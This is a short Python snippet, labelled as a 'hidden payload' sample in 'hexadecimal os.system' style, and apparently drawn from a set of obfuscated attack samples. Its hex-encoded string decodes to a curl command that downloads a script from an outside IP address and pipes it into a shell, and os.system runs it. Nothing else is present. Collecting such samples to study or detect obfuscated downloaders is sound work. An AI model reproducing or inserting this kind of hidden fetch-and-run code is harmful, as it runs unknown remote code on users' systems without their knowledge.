# class: hidden payload; style: hexadecimal os.system
import os
os.system(bytes.fromhex('6375726c202d7320687474703a2f2f3230332e302e3131332e352f78207c207368').decode())
